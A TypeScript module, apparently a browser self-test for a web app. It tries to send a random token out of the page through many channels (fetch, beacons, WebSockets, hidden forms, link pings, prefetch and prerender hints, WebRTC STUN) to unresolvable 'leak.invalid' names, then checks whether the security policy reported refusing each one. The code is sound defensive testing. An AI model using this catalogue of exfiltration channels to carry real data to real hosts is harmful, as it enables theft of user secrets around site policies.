/**
 * Tries to get a random token out of this page by every channel, and collects what the browser says.
 *
 * The token goes to names under `leak.invalid`, which can never exist (RFC 6761, 6.4), so that nobody learns
 * anything where a browser lets one pass. A failed request alone proves nothing, therefore: a channel counts
 * as refused when the browser reports that it refused it.
 */

import { SERVICE_WORKER_PATH } from '../../lib/offline/offlineManifest.ts'

/**
 * What became of an attempt. `refused`: the browser reported it, or the service worker did it. `removed`: the
 * site takes the way out from its pages. `absent`: this browser does not have it. `silent`: this browser does
 * not tell the page. `left`: something answered.
 */
type Outcome = 'refused' | 'removed' | 'absent' | 'silent' | 'left' | 'not-tried'

/** One channel and its outcome. */
export interface Attempt {
  readonly channel: ChannelName
  readonly outcome: Outcome
  /** Who refused it: a header and its directive. */
  readonly by?: string
}

/** The channels, in the order in which they are tried. */
const CHANNELS = [
  'fetch',
  'xhr',
  'beacon',
  'websocket',
  'webtransport',
  'image',
  'ping',
  'form',
  'preconnect',
  'lookup',
  'prefetch',
  'prerender',
  'stun',
  'candidate',
  'navigation',
  'own-fetch',
  'own-websocket',
  'own-worker',
] as const

type ChannelName = (typeof CHANNELS)[number]

/** A refusal that the browser reported. */
interface Refusal {
  /** The refused address; `inline` for a script in the page. */
  readonly address: string
  readonly by: string
}

/** How long the browser gets to report, in milliseconds. */
const PATIENCE_MS = 1500

/** Starts an attempt; resolves when something answered, and fails or stays silent otherwise. */
type Way = (address: string) => Promise<unknown>

const WAYS: Readonly<Record<Exclude<ChannelName, 'navigation'>, Way>> = {
  fetch: (address) => fetch(address, { mode: 'no-cors' }),
  xhr: (address) =>
    answered(new XMLHttpRequest(), 'load', (request) => {
      request.open('GET', address)
      request.send()
    }),
  beacon: (address) => {
    navigator.sendBeacon(address, 'x')
    return never
  },
  websocket: (address) => answered(new WebSocket(address.replace(/^http/, 'ws')), 'open'),
  webtransport: async (address) => {
    const { WebTransport: Transport } = globalThis as { WebTransport?: typeof WebTransport }
    if (Transport === undefined) throw new Absent('absent')
    await new Transport(address).ready
  },
  image: (address) => answered(new Image(), 'load', (image) => Object.assign(image, { src: address })),
  ping: (address) =>
    inPage('a', { href: '#sealed', ping: address }, (link) => {
      link.addEventListener('click', (event) => event.stopPropagation())
      link.click()
    }),
  form: (address) =>
    inPage('form', { action: address, method: 'post', target: 'leak-trial' }, (form) => form.submit()),
  preconnect: (address) => inPage('link', { rel: 'preconnect', href: address }),
  lookup: (address) => inPage('link', { rel: 'dns-prefetch', href: address }),
  prefetch: (address) => inPage('link', { rel: 'prefetch', href: address }),
  prerender: (address) => {
    if (!('supports' in HTMLScriptElement) || !HTMLScriptElement.supports('speculationrules'))
      throw new Absent('absent')
    const rules = { prerender: [{ source: 'list', urls: [address], eagerness: 'immediate' }] }
    return inPage('script', { type: 'speculationrules', textContent: JSON.stringify(rules) })
  },
  stun: (address) => peer(address),
  candidate: (address) => peer(address),
  'own-fetch': (address) => fetch(address),
  'own-websocket': (address) => answered(new WebSocket(address.replace(/^http/, 'ws')), 'open'),
  'own-worker': (address) => navigator.serviceWorker.register(address, { scope: '/leak-trial/' }),
}

/** Why an attempt could not even begin. */
class Absent extends Error {
  readonly outcome: Outcome

  constructor(outcome: Outcome) {
    super(outcome)
    this.outcome = outcome
  }
}

/** Returns a new random token, which can be part of a host name. */
export function randomToken(): string {
  return [...crypto.getRandomValues(new Uint8Array(8))]
    .map((byte) => byte.toString(16).padStart(2, '0'))
    .join('')
}

/** Tries all channels one after the other, and reports each outcome when the browser had time to tell. */
export async function tryToLeak(token: string): Promise<readonly Attempt[]> {
  const refusals: Refusal[] = []
  const end = collectRefusals(refusals)
  try {
    const outcomes = CHANNELS.map((channel) => attempt(channel, token))
    await new Promise((resolve) => setTimeout(resolve, PATIENCE_MS))
    return outcomes.map((look) => look(refusals))
  } finally {
    end()
    for (const element of document.querySelectorAll(`[${OF_TRIAL}]`)) element.remove()
  }
}

/** Starts one attempt; the returned function tells what became of it. */
function attempt(channel: ChannelName, token: string): (refusals: readonly Refusal[]) => Attempt {
  if (channel === 'navigation') return () => ({ channel, outcome: 'not-tried' })
  const address = addressOf(channel, token)
  let outcome: Outcome = 'silent'
  let hasFailed = false
  const way = async (): Promise<void> => {
    try {
      await WAYS[channel](address)
      outcome = 'left'
    } catch (error) {
      hasFailed = true
      if (error instanceof Absent) outcome = error.outcome
    }
  }
  void way()
  const isIts = (refused: string): boolean =>
    channel === 'prerender'
      ? refused === 'inline' || refused.includes(`prerender.${token}`)
      : refused.includes(`${channel}.${token}`) || refused.includes(`${channel}-${token}`)
  return (refusals) => {
    const refusal = refusals.find((each) => isIts(each.address))
    if (refusal !== undefined) return { channel, outcome: 'refused', by: refusal.by }
    if (channel === 'own-fetch' && hasFailed) return { channel, outcome: 'refused', by: 'service worker' }
    return { channel, outcome }
  }
}

/** Where an attempt goes: to this site's server, or to a name that cannot exist. */
function addressOf(channel: ChannelName, token: string): string {
  if (!channel.startsWith('own-')) return `https://${channel}.${token}.leak.invalid/`
  // The address of the site's own service worker gets furthest: a policy ignores what follows the question
  // mark.
  const path = channel === 'own-worker' ? `${SERVICE_WORKER_PATH}?` : '/'
  return `${location.origin}${path}${channel}-${token}`
}

/** Collects what the browser reports to the page itself. Returns a function that ends it. */
function collectRefusals(refusals: Refusal[]): () => void {
  const hear = ({ blockedURI, effectiveDirective }: SecurityPolicyViolationEvent): void => {
    refusals.push({ address: blockedURI, by: `Content-Security-Policy, ${effectiveDirective}` })
  }
  document.addEventListener('securitypolicyviolation', hear)
  const observer =
    'ReportingObserver' in window
      ? new ReportingObserver(
          (reports) => {
            for (const { body } of reports) {
              const { connection } = (body ?? {}) as { readonly connection?: string }
              if (connection !== undefined) refusals.push({ address: connection, by: 'Connection-Allowlist' })
            }
          },
          { types: ['connection-allowlist'] },
        )
      : undefined
  observer?.observe()
  return () => {
    document.removeEventListener('securitypolicyviolation', hear)
    observer?.disconnect()
  }
}

const never = new Promise<never>(() => undefined)

/** Resolves with an event of the target, and fails with its `error`. */
function answered<T extends EventTarget>(target: T, event: string, begin?: (target: T) => void): Promise<T> {
  return new Promise((resolve, reject) => {
    target.addEventListener(event, () => resolve(target), { once: true })
    target.addEventListener('error', () => reject(new Error('refused')), { once: true })
    begin?.(target)
  })
}

const OF_TRIAL = 'data-leak-trial'

/** Puts an element into the page, where it acts by itself or by `act`. Nothing tells the page the outcome. */
function inPage<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  properties: Readonly<Record<string, string>>,
  act?: (element: HTMLElementTagNameMap[Name]) => void,
): Promise<never> {
  const element = Object.assign(document.createElement(name), properties)
  element.setAttribute(OF_TRIAL, '')
  element.hidden = true
  if (name === 'form') {
    const frame = Object.assign(document.createElement('iframe'), { name: 'leak-trial', hidden: true })
    frame.setAttribute(OF_TRIAL, '')
    document.body.append(frame)
  }
  document.body.append(element)
  act?.(element)
  return never
}

/** The pages of this site have no peer connections (`lib/preview/peerConnections.ts`). */
async function peer(address: string): Promise<never> {
  const { RTCPeerConnection: Peer } = globalThis as { RTCPeerConnection?: typeof RTCPeerConnection }
  if (Peer === undefined) throw new Absent('removed')
  const connection = new Peer({ iceServers: [{ urls: `stun:${new URL(address).host}` }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  return never
}
